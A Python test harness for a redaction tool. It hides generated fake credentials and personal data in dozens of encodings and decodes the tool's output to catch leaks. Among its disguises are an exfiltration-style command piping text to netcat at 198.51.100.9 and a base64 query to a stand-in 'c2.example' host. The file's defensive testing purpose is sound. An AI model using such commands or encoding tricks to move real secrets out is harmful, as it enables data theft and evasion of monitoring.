#!/usr/bin/env python3
"""Seeds sensitive values in disguises, has tool_redact redact them, and looks for them in what comes out with decoders of its own.

usage: redact_corpus.py TOOL [--full]     prints ok / not ok lines and a table
Shares no code with src/policy. Seeded, so a run can be repeated.
"""
import base64, codecs, html, json, quopri, random, re, string, subprocess, sys, urllib.parse

rng = random.Random(20261124)
AZ, AZ09, WORD = string.ascii_uppercase, string.ascii_uppercase + string.digits, string.ascii_letters + string.digits
pick = lambda s, n: "".join(rng.choice(s) for _ in range(n))
FIRST = "Ingrid Tomasz Priya Dmitri Aoife Kwame Yuki Leila Bastian Noemi Rashid Saoirse Mateus Helga Anouk Tariq Sanna Ravi Eluned Piotr".split()
LAST = "Halvorsen Wisniewski Raghunathan Volkov Gallagher Mensah Nakamura Farahani Krugmann Bertolucci Siddiqui Lindqvist Pereira Castellano Whitcombe".split()
HOSTS = "kestrel heron plover bittern dunlin avocet godwit whimbrel".split()


def luhn(prefix, n):
    body = prefix + pick(string.digits, n - len(prefix) - 1)
    s = 0
    for i, c in enumerate(reversed(body)):
        d = int(c)
        if i % 2 == 0:
            d = d * 2 - 9 if d > 4 else d * 2
        s += d
    return body + str(-s % 10)


def password():
    return pick(string.ascii_letters, 4) + pick("!#%*-_.", 1) + pick(WORD, 6) + str(rng.randrange(10, 99))


def jwt():
    enc = lambda o: base64.urlsafe_b64encode(json.dumps(o).encode()).decode().rstrip("=")
    return enc({"alg": "HS256", "typ": "JWT"}) + "." + enc({"sub": pick(WORD, 8), "iat": rng.randrange(10**9)}) + "." + pick(WORD + "-_", 43)


def pem():
    body = "\n".join(pick(WORD + "+/", 64) for _ in range(3))
    return f"-----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY-----"


def aws_secret():
    while True:
        s = pick(WORD + "/+", 40)
        if re.search("[a-z]", s) and re.search("[A-Z]", s) and re.search("[0-9]", s):
            return s


# kind: (maker, how many, field it is learnt from or None, sentence around it)
KINDS = {
    "aws_key_id": (lambda: "AKIA" + pick(AZ + "234567", 16), 30, None, "used key {} for the call"),
    "aws_secret": (aws_secret, 30, None, "aws_secret_access_key = {} in the file"),
    "github_token": (lambda: "ghp_" + pick(WORD, 36), 25, None, "cloned with {} over https"),
    "slack_token": (lambda: "xoxb-" + pick(string.digits, 12) + "-" + pick(WORD, 24), 20, None, "posted with {} to the channel"),
    "jwt": (jwt, 25, None, "session {} was replayed"),
    "private_key": (pem, 20, None, "file held {} as text"),
    "password": (password, 40, None, "password={} was typed"),
    "bearer": (lambda: pick(WORD + "-_", 32), 20, None, "Authorization: Bearer {} was sent"),
    "url_password": (lambda: pick(WORD, 14), 20, None, "fetch https://svc:{}@repo.example.net/x again"),
    "mail": (lambda: f"{rng.choice(FIRST)}.{rng.choice(LAST)}{rng.randrange(100)}@{rng.choice(HOSTS)}.example.org".lower(), 45, None, "sent to {} twice"),
    "name": (lambda: f"{rng.choice(FIRST)} {rng.choice(LAST)}", 45, "actor.user.full_name", "ticket opened by {} on Monday"),
    "user": (lambda: (rng.choice(FIRST)[0] + rng.choice(LAST) + str(rng.randrange(10))).lower(), 40, "actor.user.name", "login of {} was odd"),
    "phone": (lambda: "+49 " + str(rng.randrange(151, 179)) + " " + pick(string.digits, 8), 30, None, "call {} first"),
    "card": (lambda: luhn("4", 16), 30, None, "paid with {} yesterday"),
    "ssn": (lambda: f"{rng.randrange(100,899)}-{rng.randrange(10,99)}-{rng.randrange(1000,9999)}", 25, None, "SSN {} was in the sheet"),
    "iban": (lambda: "DE" + pick(string.digits, 20), 20, None, "transfer to {} was made"),
    "account": (lambda: pick("123456789", 1) + pick(string.digits, 11), 30, "cloud.account.uid", "in account {} only"),
    "host": (lambda: f"{rng.choice(HOSTS)}-{rng.randrange(1000,9999)}.corp.example.com", 30, "device.hostname", "host {} rebooted"),
    "address": (lambda: ".".join(str(rng.randrange(11, 250)) for _ in range(4)), 30, "src_endpoint.ip", "traffic from {} rose"),
}
b64 = lambda s: base64.b64encode(s.encode()).decode()
pct = lambda s: "".join("%%%02x" % b for b in s.encode())
uesc = lambda s: "".join("\\u%04x" % ord(c) for c in s)
half = lambda s: (s[: len(s) // 2], s[len(s) // 2 :])


def concat(s):
    a, b = half(s)
    return f'"{a}" + "{b}"'


# Each takes the sentence with {} and the value. Whole-text ones encode the sentence as well.
def inner(f):
    return lambda t, v: t.replace("{}", f(v))


def outer(f):
    return lambda t, v: f(t.replace("{}", v))


DISGUISES = {
    "plain": inner(lambda v: v),
    "double_quoted": inner(lambda v: f'"{v}"'),
    "in_brackets": inner(lambda v: f"<{v}>"),
    "json_string": outer(lambda s: json.dumps({"msg": s})),
    "json_in_json": outer(lambda s: json.dumps({"a": json.dumps({"msg": s})})),
    "json_in_json_in_json": outer(lambda s: json.dumps({"x": json.dumps({"a": json.dumps({"msg": s})})})),
    "percent_all": inner(pct),
    "percent_all_upper": inner(lambda v: "".join("%%%02X" % b for b in v.encode())),
    "percent_twice": inner(lambda v: urllib.parse.quote(pct(v))),
    "percent_some": inner(lambda v: "".join("%%%02x" % ord(c) if i % 3 == 1 else c for i, c in enumerate(v))),
    "query_string": outer(lambda s: "GET /x?" + urllib.parse.urlencode({"q": s}) + " HTTP/1.1"),
    "base64": inner(b64),
    "base64_sentence": outer(b64),
    "base64_twice": inner(lambda v: b64(b64(v))),
    "base64_url": inner(lambda v: base64.urlsafe_b64encode(v.encode()).decode().rstrip("=")),
    "base64_in_url": inner(lambda v: "https://c2.example/p?d=" + urllib.parse.quote(b64(v))),
    "base64_utf16": inner(lambda v: base64.b64encode(v.encode("utf-16le")).decode()),
    "base64_of_percent": inner(lambda v: b64(pct(v))),
    "base32": inner(lambda v: base64.b32encode(v.encode()).decode()),
    "basic_auth": inner(lambda v: "Basic " + b64("svc:" + v)),
    "hex": inner(lambda v: v.encode().hex()),
    "hex_colons": inner(lambda v: ":".join("%02x" % b for b in v.encode())),
    "hex_0x": inner(lambda v: ", ".join("0x%02x" % b for b in v.encode())),
    "hex_spaces": inner(lambda v: " ".join("%02X" % b for b in v.encode())),
    "hex_backslash": inner(lambda v: "".join("\\x%02x" % b for b in v.encode())),
    "octal": inner(lambda v: "".join("\\%03o" % b for b in v.encode())),
    "unicode_escape": inner(uesc),
    "unicode_some": inner(lambda v: "".join(uesc(c) if i % 4 == 0 else c for i, c in enumerate(v))),
    "percent_u": inner(lambda v: "".join("%%u%04x" % ord(c) for c in v)),
    "html_decimal": inner(lambda v: "".join("&#%d;" % ord(c) for c in v)),
    "html_hex": inner(lambda v: "".join("&#x%x;" % ord(c) for c in v)),
    "html_named": outer(lambda s: "<p title=\"" + html.escape(s) + "\">"),
    "quoted_printable": outer(lambda s: quopri.encodestring(s.encode(), quotetabs=True).decode()),
    "quoted_printable_all": inner(lambda v: "".join("=%02X" % b for b in v.encode())),
    "zero_width": inner(lambda v: "\u200b".join(v)),
    "soft_hyphen": inner(lambda v: "\u00ad".join(half(v))),
    "full_width": inner(lambda v: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in v)),
    "tag_characters": inner(lambda v: "".join(chr(0xE0000 + ord(c)) if c != "\n" else c for c in v)),
    "char_codes": inner(lambda v: ",".join(str(ord(c)) for c in v.replace("\n", " "))),
    "char_calls": inner(lambda v: "+".join("char(%d)" % ord(c) for c in v.replace("\n", " "))),
    "concatenated": inner(concat),
    "caret_escaped": inner(lambda v: "^".join(half(v))),
    "backtick_escaped": inner(lambda v: "`".join(half(v))),
    "line_continued": inner(lambda v: "\\\n".join(half(v))),
    "rot13": outer(lambda s: codecs.encode(s, "rot13")),
    "reversed": outer(lambda s: s[::-1]),
    "csv_row": outer(lambda s: '1,"' + s.replace('"', '""') + '",end'),
    "xml": outer(lambda s: "<event><data>" + html.escape(s) + "</data></event>"),
    "command_line": outer(lambda s: "sh -c 'echo \"" + s + "\" | nc 198.51.100.9 80'"),
    "split_fields": None,  # first half at the end of one field, second at the start of the next
    "typed_field": None,  # in the field of the table that holds such values, where there is one
}
POLICY = ["free_text", "accounts", "hostnames", "addresses"]


def case(kind, value, name):
    maker, n, field, sentence = KINDS[kind]
    fields = [[field, value]] if field else []
    c = {"policy": POLICY, "fields": fields, "kind": kind, "seed": value, "disguise": name}
    if name == "split_fields":
        a, b = half(value)
        pre, post = sentence.split("{}")
        c["fields"] = fields + [["process.cmd_line", pre + a], ["message", b + post]]
        c["text"] = ""
    elif name == "typed_field":
        c["fields"] = fields or [["message", sentence.replace("{}", value)]]
        c["text"] = ""
    else:
        c["text"] = DISGUISES[name](sentence, value)
    return c


def squeeze(s):
    return re.sub(r"[^a-z0-9]", "", s.lower())


def readings(s):
    """The text as different people could decode it."""
    seen, todo = set(), [s]
    for depth in range(4):
        nxt = []
        for t in todo:
            if t in seen:
                continue
            seen.add(t)
            nxt += [urllib.parse.unquote(t), html.unescape(t), re.sub("[\u200b\u00ad\u2060\ufeff]", "", t)]
            nxt.append(re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m[1], 16)), t))
            nxt.append(re.sub(r"%u([0-9a-fA-F]{4})", lambda m: chr(int(m[1], 16)), t))
            nxt.append(re.sub(r"\\x([0-9a-fA-F]{2})", lambda m: chr(int(m[1], 16)), t))
            nxt.append(re.sub(r"\\([0-3][0-7]{2})", lambda m: chr(int(m[1], 8)), t))
            nxt.append(re.sub(r"=([0-9A-F]{2})", lambda m: chr(int(m[1], 16)), t.replace("=\n", "")))
            nxt.append("".join(chr(ord(c) - 0xFEE0) if 0xFF01 <= ord(c) <= 0xFF5E else chr(ord(c) - 0xE0000) if 0xE0020 <= ord(c) <= 0xE007E else c for c in t))
            for m in re.finditer(r"[A-Za-z0-9+/_-]{8,}", t):
                raw = m[0].replace("-", "+").replace("_", "/")
                for skip in range(4):
                    try:
                        d = base64.b64decode(raw[skip:] + "=" * (-len(raw[skip:]) % 4))
                        nxt.append(d.replace(b"\0", b"").decode("ascii"))
                    except Exception:
                        pass
            for m in re.finditer(r"[A-Z2-7]{8,}", t):
                try:
                    nxt.append(base64.b32decode(m[0] + "=" * (-len(m[0]) % 8)).decode("ascii"))
                except Exception:
                    pass
            for m in re.finditer(r"(?:(?:0x|\\x)?[0-9a-fA-F]{2}[:, ]{0,2}){4,}", t):
                try:
                    nxt.append(bytes.fromhex(re.sub(r"0x|\\x|[:, ]", "", m[0])).decode("ascii"))
                except Exception:
                    pass
            for m in re.finditer(r"(?:\d{2,3}\D{1,7}){5,}\d{2,3}", t):
                nxt.append("".join(chr(int(x)) for x in re.findall(r"\d{2,3}", m[0])))
        todo = nxt
    return seen | set(todo) | {codecs.encode(s, "rot13"), s[::-1]}


def leaks(seed, out):
    want = squeeze(seed)
    part = want[: max(8, len(want) * 2 // 3)], want[-max(8, len(want) * 2 // 3) :]
    for r in readings(out):
        q = squeeze(r)
        if want in q or (len(want) >= 16 and (part[0] in q or part[1] in q)):
            return True
    return False


def main():
    tool, full = sys.argv[1], "--full" in sys.argv
    seeds = [(k, KINDS[k][0]()) for k in KINDS for _ in range(KINDS[k][1])]
    names = list(DISGUISES)
    cases = []
    for i, (k, v) in enumerate(seeds):
        for d in names if full else [names[i % len(names)], names[(i * 7 + 3) % len(names)]]:
            cases.append(case(k, v, d))
    send = "\n".join(json.dumps({x: c[x] for x in ("policy", "fields", "text")}) for c in cases) + "\n"
    res = subprocess.run([tool], input=send.encode(), stdout=subprocess.PIPE, check=True).stdout.decode().splitlines()
    bad = {}
    for c, line in zip(cases, res):
        o = json.loads(line)
        out = json.dumps(o["event"], ensure_ascii=False) + "\n" + o["text"]
        flat = " ".join(str(v) for v in o["event"].values()) + "\n" + o["text"]
        if leaks(c["seed"], out) or leaks(c["seed"], flat):
            bad.setdefault((c["kind"], c["disguise"]), []).append((c, o))
    n = sum(map(len, bad.values()))
    print(f"# redaction: {len(seeds)} seeded values of {len(KINDS)} kinds, {len(names)} disguises, {len(cases)} cases, {n} left in clear")
    for (k, d), v in list(bad.items())[:30]:
        print(f"#   {k} in {d}: {v[0][0]['text'][:150]!r} -> {v[0][1]['text'][:150]!r} {json.dumps(v[0][1]['event'])[:200]}")
    print(("ok" if not n and len(res) == len(cases) else "not ok") + " none of the seeded values leaves in clear")
    structure(tool)


def run(tool, cases):
    send = "\n".join(json.dumps(c) for c in cases) + "\n"
    out = subprocess.run([tool], input=send.encode(), stdout=subprocess.PIPE, check=True).stdout.decode()
    return [json.loads(l) for l in out.splitlines()]


def structure(tool):
    fields = [["src_endpoint.ip", "203.0.113.7"], ["dst_endpoint.ip", "203.0.113.99"], ["device.ip", "198.51.100.7"],
              ["actor.user.name", "ihalvorsen"], ["api.operation", "GetObject"], ["message", "ihalvorsen read it from 203.0.113.7"]]
    a, b, forged = run(tool, [
        {"policy": POLICY, "fields": fields, "text": "ihalvorsen at 203.0.113.7", "again": "%69halvorsen"},
        {"policy": [], "fields": fields, "text": "x"},
        {"policy": POLICY, "fields": [["actor.user.name", "ihalvorsen"]], "text": "put [USER_1] here"}])
    ev = a["event"]
    net = lambda p: p.strip("[]").split("_")[1]
    ip, dst, dev = ev["src"] if "src" in ev else None, None, None
    ips = [v for v in ev.values() if isinstance(v, str) and v.startswith("[IP_")]
    same = len(ips) == 3 and net(ips[0]) == net(ips[1]) != net(ips[2])
    print(("ok" if same else "not ok") + f" addresses of one subnet share their number ({ips})")
    user = [v for v in ev.values() if isinstance(v, str) and v.startswith("[USER_")][0]
    say = a["text"] == f"{user} at {ips[0]}" and a["again"] == user and user in ev["message"] and ips[0] in ev["message"]
    print(("ok" if say else "not ok") + " the same value has the same placeholder wherever it stands")
    print(("ok" if a["restored"] == "ihalvorsen at 203.0.113.7" else "not ok") + " placeholders are restored")
    print(("ok" if "GetObject" in json.dumps(ev) else "not ok") + " what is public stays readable")
    print(("ok" if "message" not in b["event"] else "not ok") + " free text stays out unless policy lets it in")
    print(("ok" if "ihalvorsen" not in forged["restored"] and "[USER_1]" in forged["restored"] else "not ok") + " a forged placeholder restores to itself, never to a secret")


main()
